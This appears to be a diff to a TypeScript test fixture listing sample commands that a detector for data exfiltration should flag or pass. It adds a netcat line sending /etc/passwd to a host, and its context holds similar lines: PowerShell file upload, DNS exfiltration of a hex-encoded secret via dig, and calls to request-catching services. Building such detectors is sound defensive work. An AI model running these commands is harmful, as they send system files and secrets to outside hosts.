@@ -184,6 +184,7 @@ export const riskSamples: readonly RiskSamples[] = [
       line('PowerShell, client', `(New-Object Net.WebClient).UploadFile("https://${host}", "x")`),
       line('netcat', `cat /etc/passwd | nc ${host} 4444`),
       line('netcat, redirection', `nc ${host} 4444 < /etc/passwd`),
+      line('netcat, redirection without a space', `nc ${host} 4444 </etc/passwd`),
       line('a name to look up', `dig $(cat secret | xxd -p).${host}`),
       line('an address for looking at requests', 'fetch("https://webhook.site/7f1c2a9e-4b3d-4e5f-8a6b-0c1d2e3f4a5b")'),
       line('a host for looking at requests', 'curl http://x7.oastify.com'),
@@ -214,7 +215,7 @@ export const riskSamples: readonly RiskSamples[] = [
       miss('a file is read and a page fetched', `const a = fs.readFileSync("a"); const b = await fetch("https://example.com")`),
       miss('prose', 'You can post the file to a webhook with curl, or look at requests with webhook.site while you test.'),
       miss('a port is tested', 'nc -z example.com 443'),
-      miss('a tag', '<code>nc localhost 8080</code>'),
+      miss('a tag', '<code>nc localhost 8080</code> <button>'),
     ],
   },
   {
